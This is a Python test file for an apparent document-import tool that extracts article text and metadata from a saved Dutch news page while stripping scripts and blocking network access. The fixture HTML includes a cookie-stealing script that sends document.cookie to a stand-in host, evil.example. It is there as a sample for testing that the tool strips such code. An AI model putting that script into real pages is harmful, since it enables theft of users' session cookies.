"""Saved web pages: the article body and its metadata, nothing run or fetched."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from claimdesk.core import Project
from claimdesk.formats import Note, Problem, ReadOptions, guess_format
from claimdesk.formats.importing import import_paths

PAGE = """<!DOCTYPE html>
<html lang="nl"><head>
<meta charset="utf-8">
<title>Geen Huawei in 5G-kern - Tweakers</title>
<meta name="author" content="Jan Jansen">
<meta property="og:site_name" content="Tweakers">
<meta property="og:url" content="https://tweakers.net/nieuws/123/geen-huawei.html">
<meta property="article:published_time" content="2019-10-03T08:00:00+02:00">
<meta name="description" content="De VS willen samenwerken.">
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<script src="https://cdn.example/tracker.js"></script>
<link rel="stylesheet" href="https://cdn.example/site.css">
<style>body { background: url(https://cdn.example/bg.png) }</style>
</head>
<body onload="track()">
<nav><a href="/">Home</a> | <a href="/nieuws">Nieuws</a> | <a href="/login">Inloggen</a></nav>
<article>
<h1>Geen Huawei 😀 in de 5G-kern</h1>
<p>De Verenigde Staten is van plan om met gelijkgestemde landen samen te werken. Dat heeft
president Donald Trump laten weten in een brief aan de regeringsleiders.</p>
<h2>Reactie van het kabinet</h2>
<p>Het kabinet wil eerst een onderzoek naar de beveiliging van de mobiele netwerken in Nederland.</p>
<ul><li>veiligheid van het netwerk</li><li>kosten voor de providers</li></ul>
<iframe src="https://ads.example/banner"></iframe>
<img src="https://cdn.example/photo.jpg" alt="foto">
</article>
<footer>© 2019 Tweakers · Cookies · Privacy</footer>
</body></html>
"""


def write_page(tmp_path: Path, html: str = PAGE, name: str = "artikel.html") -> Path:
    path = tmp_path / name
    path.write_text(html, encoding="utf-8")
    return path


def test_read_web_page_keeps_the_article_and_its_metadata(tmp_path: Path) -> None:
    path = write_page(tmp_path)
    fmt = guess_format(path)
    assert fmt is not None and fmt.name == "web-page"
    document, note = fmt.read(path, "artikel.html", ReadOptions())
    assert document.text == (
        "Geen Huawei 😀 in de 5G-kern\n\n"
        "De Verenigde Staten is van plan om met gelijkgestemde landen samen te werken. Dat heeft "
        "president Donald Trump laten weten in een brief aan de regeringsleiders.\n\n"
        "Reactie van het kabinet\n\n"
        "Het kabinet wil eerst een onderzoek naar de beveiliging van de mobiele netwerken in "
        "Nederland.\n\nveiligheid van het netwerk\n\nkosten voor de providers"
    )
    assert document.title == "Geen Huawei 😀 in de 5G-kern"
    assert document.published == "2019-10-03"
    assert document.source == "Tweakers"
    assert document.url == "https://tweakers.net/nieuws/123/geen-huawei.html"
    assert document.language == "nl"
    assert document.metadata["author"] == "Jan Jansen"
    assert document.metadata["description"] == "De VS willen samenwerken."
    assert [(s.kind, document.text[s.start : s.end], s.level) for s in document.structure] == [
        ("heading", "Geen Huawei 😀 in de 5G-kern", 1),
        ("heading", "Reactie van het kabinet", 2),
        ("list_item", "veiligheid van het netwerk", None),
        ("list_item", "kosten voor de providers", None),
    ]
    for word in ("Inloggen", "Cookies", "fetch", "track"):
        assert word not in document.text
    assert isinstance(note, Note)
    assert note.message == (
        "4 scripts, styles or embedded objects removed and 4 external resources ignored "
        "(nothing was run or fetched)"
    )


def test_reading_a_page_opens_no_connection(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a connection was attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    path = write_page(tmp_path)
    items = list(guess_format(path).read(path, "artikel.html", ReadOptions()))
    assert items[0].title == "Geen Huawei 😀 in de 5G-kern"


def test_a_page_declaring_cp1252_is_decoded_with_it(tmp_path: Path) -> None:
    html = PAGE.replace('charset="utf-8"', 'charset="windows-1252"').replace("😀 ", "")
    html = html.replace("regeringsleiders", "regeringsleiders en het café")
    path = tmp_path / "oud.htm"
    path.write_bytes(html.encode("cp1252"))
    document = next(iter(guess_format(path).read(path, "oud.htm", ReadOptions())))
    assert "het café." in document.text
    assert document.encoding == "cp1252"


@pytest.mark.parametrize(
    ("html", "message"),
    [
        (
            "<html><head><script>x()</script></head><body><nav>Home</nav></body></html>",
            "no article text",
        ),
        ("   ", "empty web page"),
    ],
)
def test_pages_without_an_article_are_reported(tmp_path: Path, html: str, message: str) -> None:
    path = write_page(tmp_path, html, "leeg.html")
    items = list(guess_format(path).read(path, "leeg.html", ReadOptions()))
    assert isinstance(items[0], Problem)
    assert message in items[0].message


def test_import_web_page_stores_the_document_and_the_note(
    tmp_path: Path, empty_project: Project
) -> None:
    write_page(tmp_path)
    report = import_paths(empty_project, [tmp_path / "artikel.html"])
    assert report.exit_code == 0
    assert [n.file for n in report.notes] == ["artikel.html"]
    stored = empty_project.document(report.imported[0].id)
    assert stored.source == "Tweakers" and stored.published == "2019-10-03"
    assert stored.text.startswith("Geen Huawei 😀")
